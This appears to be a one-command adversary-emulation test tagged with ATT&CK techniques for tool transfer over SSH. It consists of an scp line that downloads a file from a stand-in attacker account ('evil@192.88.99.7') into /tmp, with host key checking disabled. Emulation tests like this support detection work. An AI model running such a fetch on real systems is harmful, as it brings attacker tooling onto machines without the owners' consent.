# title: scp fetches tools
# technique: T1105 T1021.004
# needs: scp

timeout 2 scp -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 evil@192.88.99.7:/x /tmp/x; true
